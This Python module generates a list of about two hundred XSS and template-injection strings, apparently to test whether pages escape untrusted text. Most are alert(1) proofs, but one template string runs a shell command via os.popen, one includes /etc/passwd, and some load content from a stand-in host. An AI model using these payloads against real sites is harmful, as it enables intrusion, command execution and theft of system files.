"""Two hundred texts that run or fetch something where a page forgets to escape them."""

_HANDLERS = (
    "onload",
    "onerror",
    "onclick",
    "onfocus",
    "onmouseover",
    "onbegin",
    "ontoggle",
    "onanimationstart",
)
_TAGS = ("img", "svg", "body", "iframe", "video", "details", "input", "math", "object", "marquee")

PAYLOADS = (
    *(f"<{tag} {handler}=alert(1) src=x autofocus open>" for tag in _TAGS for handler in _HANDLERS),
    *(f'"{closing}<script>alert({number})</script>' for number, closing in enumerate(
        (">", "/>", "></style>", "></title>", "-->", "]]>", "></svg>", "></textarea>", "'>", "`>") * 4)),
    *(f"{quote} {handler}=alert(1) x={quote}" for quote in ('"', "'", "`") for handler in _HANDLERS),
    *(f"{{{{ {inside} }}}}" for inside in (
        "7*7", "page.__class__.__mro__", "cycler.__init__.__globals__.os.popen('id').read()", "config",
        "request", "self._TemplateReference__context", "''.__class__", "lipsum.__globals__",
        "namespace()", "joiner.__init__.__globals__")),
    *(f"{{% {inside} %}}" for inside in ("include '/etc/passwd'", "for x in ().__class__.__base__", "raw", "set a=1")),
    *(f'<a href="{scheme}:alert(1)">x</a>' for scheme in (
        "javascript", "JaVaScRiPt", "data:text/html,<script>", "vbscript", " javascript", "java\\tscript")),
    *(f'<link rel={rel} href=//example.invalid/x>' for rel in (
        "stylesheet", "import", "preload", "prefetch", "icon", "dns-prefetch")),
    *(f"<meta http-equiv={kind} content='0;url=//example.invalid'>" for kind in ("refresh", "set-cookie", "x")),
    "<base href=//example.invalid>", "<form action=//example.invalid><button>", "<style>@import '//example.invalid'",
    "</style><script>alert(1)</script>", "<!--<script>alert(1)//-->", "<![CDATA[<script>alert(1)</script>]]>",
    "<svg><use href='//example.invalid/x#y'/></svg>", "<svg><script>alert(1)</script></svg>", "<plaintext>",
    "<template><script>alert(1)</script></template>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "\\u003cscript\\u003ealert(1)", "<scr<script>ipt>alert(1)</script>",
    "<img src='x' style='background:url(//example.invalid)'>", "${alert(1)}", "#{7*7}", "<%= 7*7 %>",
    "<textarea><script>alert(1)</script>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<isindex action=javascript:alert(1)>", "<embed src=//example.invalid>", "<frameset onload=alert(1)>",
    "<table background=//example.invalid>", "<xml><i><b></xml>", "'-alert(1)-'", "\";alert(1)//",
    "<ScRiPt>alert(1)</sCrIpT>",
)  # fmt: skip
